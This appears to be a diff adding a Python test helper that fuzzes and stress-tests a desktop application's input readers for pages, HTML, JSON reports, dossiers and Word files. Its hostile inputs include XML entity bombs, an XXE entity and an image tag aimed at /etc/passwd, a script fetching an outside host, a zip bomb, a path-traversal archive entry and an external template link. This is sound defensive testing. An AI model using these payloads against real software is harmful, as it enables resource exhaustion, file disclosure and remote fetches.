@@ -1,0 +1,215 @@
+"""Everything that reads what comes from outside, with samples that are sound and inputs that mean harm.
+
+A reader has to take its input or to refuse it with a `Problem`, in little time and memory; nothing else.
+"""
+
+import datetime as dt
+import io
+import json
+import random
+import zipfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+
+from docx import Document
+
+from tests.pages import PAGES
+from tests.reports import identities, small_report
+from vgr_desktop.core.problems import Problem
+from vgr_desktop.files.codec import text_from_json, text_to_json
+from vgr_desktop.files.dossier import Dossier
+from vgr_desktop.files.exchange import read_report
+from vgr_desktop.files.opening import open_to_work
+from vgr_desktop.files.report_json import report_to_json
+from vgr_desktop.published import read_page
+from vgr_desktop.ui import paste
+from vgr_desktop.word.template import open_template
+
+MOST_CHANGES = 12
+MEGABYTE = 1_000_000
+_NAMESPACE = "http://schemas.openxmlformats.org/package/2006/relationships"
+_ODD = ("\x00", "\x1b[31m", "\ud800", "\u202e", "\u2066", "\ufeff", "😀", "e\u0301" * 50, "&#0;", "]]>", "\u2028")
+
+
+@dataclass(frozen=True, slots=True)
+class Reader:
+    """What reads a file with this suffix; `read` gets its path."""
+
+    suffix: str
+    read: Callable[[Path], object]
+
+
+def _page(path: Path) -> object:
+    return read_page(path, identities())
+
+
+def _clipboard(path: Path) -> object:
+    return paste.html(path.read_bytes().decode("utf-8", "surrogateescape"))
+
+
+def _clipboard_text(path: Path) -> object:
+    return paste.plain(path.read_bytes().decode("utf-8", "surrogateescape"))
+
+
+def _clipboard_own(path: Path) -> object:
+    try:
+        return paste.within_limits(text_from_json(path.read_bytes().decode("utf-8", "replace")))
+    except (ValueError, RecursionError) as error:  # the editor then takes another form from the clipboard
+        raise Problem("geen tekst van ons") from error
+
+
+def _dossier(path: Path) -> object:
+    found = open_to_work(path, dt.datetime(2026, 6, 1, tzinfo=dt.UTC))
+    if found.lock is not None:
+        found.lock.release()
+    return found
+
+
+READERS: Mapping[str, Reader] = {
+    "page": Reader(".txt", _page),
+    "web page": Reader(".html", _page),
+    "exchanged report": Reader(".json", lambda path: read_report(path, identities())),
+    "dossier": Reader(".vgr", _dossier),
+    "house style": Reader(".docx", open_template),
+    "clipboard": Reader(".html", _clipboard),
+    "clipboard text": Reader(".txt", _clipboard_text),
+    "clipboard of ours": Reader(".json", _clipboard_own),
+}
+
+
+def sample(name: str, folder: Path) -> bytes:
+    """What the reader with this name takes without a murmur."""
+    report = small_report()
+    match name:
+        case "page" | "clipboard text":
+            return (PAGES / "waterdam-1e-vgr-2022-programma-8.txt").read_bytes()
+        case "web page" | "clipboard":
+            return (PAGES / "waterdam-1e-vgr-2024-programma-5.html").read_bytes()
+        case "exchanged report":
+            return report_to_json(report).encode()
+        case "clipboard of ours":
+            return text_to_json(report.foreword.body).encode()
+        case "house style":
+            stream = io.BytesIO()
+            Document().save(stream)
+            return stream.getvalue()
+        case _:
+            path = folder / "sound.vgr"
+            path.unlink(missing_ok=True)
+            with Dossier.create(path) as dossier:
+                dossier.save(None, report)
+            return path.read_bytes()
+
+
+def changed(content: bytes, chance: random.Random) -> bytes:
+    """The content with bytes flipped, stretches taken out, doubled or moved, and odd characters put in."""
+    spoiled = bytearray(content)
+    for _ in range(chance.randint(1, MOST_CHANGES)):
+        start = chance.randrange(len(spoiled) + 1)
+        end = min(len(spoiled), start + chance.choice((1, 2, 16, 300)))
+        match chance.randrange(5):
+            case 0:
+                spoiled[start:end] = chance.randbytes(end - start)
+            case 1:
+                del spoiled[start:end]
+            case 2:
+                spoiled[start:start] = spoiled[start:end] * chance.choice((1, 50))
+            case 3:
+                spoiled[start:start] = chance.choice(_ODD).encode("utf-8", "surrogatepass")
+            case _:
+                spoiled[start:] = b""
+    return bytes(spoiled)
+
+
+def unpacked(content: bytes) -> dict[str, bytes]:
+    """The parts of a Word file."""
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        return {name: package.read(name) for name in package.namelist()}
+
+
+def packed(parts: Mapping[str, bytes]) -> bytes:
+    """A Word file of these parts."""
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, content in parts.items():
+            package.writestr(name, content)
+    return stream.getvalue()
+
+
+def changed_inside(content: bytes, chance: random.Random) -> bytes:
+    """A Word file with one of its parts changed."""
+    parts = unpacked(content)
+    name = chance.choice(sorted(parts))
+    return packed(parts | {name: changed(parts[name], chance)})
+
+
+def takes(reader: Reader, content: bytes, folder: Path) -> bool:
+    """Whether the reader takes this; False when it refuses it as it should. Anything else it raises comes through."""
+    path = folder / f"outside{reader.suffix}"
+    path.write_bytes(content)
+    try:
+        reader.read(path)
+    except Problem as problem:
+        if not str(problem).strip():
+            raise AssertionError("it says nothing") from problem
+        return False
+    return True
+
+
+def extremes(folder: Path) -> Iterator[tuple[str, str, bytes]]:
+    """What means harm, as the name of the reader, what it is, and the content."""
+    for name in ("page", "clipboard text"):
+        yield name, "a million paragraphs", b"regel\n" * 1_000_000
+        yield name, "a word of 100,000 characters", b"a" * 100_000
+        yield name, "nothing but odd characters", "".join(_ODD).encode("utf-8", "surrogatepass") * 1000
+        yield name, "twenty megabytes without a space", b"x" * (20 * MEGABYTE)
+    for name in ("web page", "clipboard"):
+        yield from ((name, what, content) for what, content in _hostile_html())
+    yield "exchanged report", "nested deeply", b"[" * 200_000
+    yield "exchanged report", "a number of a million digits", b'{"format": ' + b"9" * MEGABYTE + b"}"
+    yield "exchanged report", "a hundred megabytes", b" " * (100 * MEGABYTE)
+    yield "clipboard of ours", "nested deeply", b"[" * 200_000
+    rows = [[[{"runs": ["x"]}]] * 300] * 300
+    yield "clipboard of ours", "a table of 90,000 cells", json.dumps([{"table": rows}]).encode()
+    yield from (("house style", what, content) for what, content in _hostile_word(sample("house style", folder)))
+    sound = sample("dossier", folder)
+    yield "dossier", "nothing", b""
+    yield "dossier", "cut off", sound[:5000]
+    yield "dossier", "pages in a circle", sound[:4096] + sound[4096:8192] * (len(sound) // 4096)
+
+
+def _hostile_html() -> Iterator[tuple[str, bytes]]:
+    yield "nested deeply", b"<div>" * 100_000 + b"tekst"
+    yield "lists in lists", b"<ul><li>" * 20_000 + b"tekst"
+    yield "a million paragraphs", b"<p>regel</p>" * 1_000_000
+    yield (
+        "entities in entities",
+        (b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">' * 9 + b"]><p>&b;</p>"),
+    )
+    yield "a file and a script", b'<p>x</p><img src="file:///etc/passwd"><script>fetch("http://a.nl")</script>'
+    yield "tags that do not end", b"<p " * 200_000
+    yield "comments that do not end", b"<!--" * 200_000
+    yield "a table of a million cells", b"<table>" + (b"<tr>" + b"<td>x" * 1000) * 1000
+    yield "a cell that is very wide", b"<table><tr><td colspan=1000000000 rowspan=1000000000>x"
+
+
+def _hostile_word(sound: bytes) -> Iterator[tuple[str, bytes]]:
+    parts = unpacked(sound)
+    document = "word/document.xml"
+    text = parts[document]
+    bomb = b'<!DOCTYPE a [<!ENTITY a "' + b"a" * 10_000 + b'"><!ENTITY b "' + b"&a;" * 10_000 + b'">]>'
+    head = text.index(b"?>") + 2
+    yield "a bomb of zeroes", packed(parts | {"word/media/bom.png": bytes(400 * MEGABYTE)})
+    yield "entities in entities", packed(parts | {document: text[:head] + bomb + text[head:]})
+    outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    yield "an entity outside", packed(parts | {document: text[:head] + outside + text[head:].replace(b"<w:p>", b"&x;")})
+    deep = text.replace(b"<w:body>", b"<w:body>" + b"<w:p>" * 100_000 + b"</w:p>" * 100_000)
+    yield "nested deeply", packed(parts | {document: deep})
+    many = text.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 1_000_000)
+    yield "a million paragraphs", packed(parts | {document: many})
+    yield "macros", packed(parts | {"word/vbaProject.bin": b"x"})
+    yield "a name that climbs out", packed(parts | {"../../weg.txt": b"x"})
+    far = f'<Relationships xmlns="{_NAMESPACE}"><Relationship Id="r" Type="x/attachedTemplate" TargetMode="External" '
+    far += 'Target="http://elders.nl/a.dotm"/></Relationships>'
+    yield "a template elsewhere", packed(parts | {"word/_rels/settings.xml.rels": far.encode()})
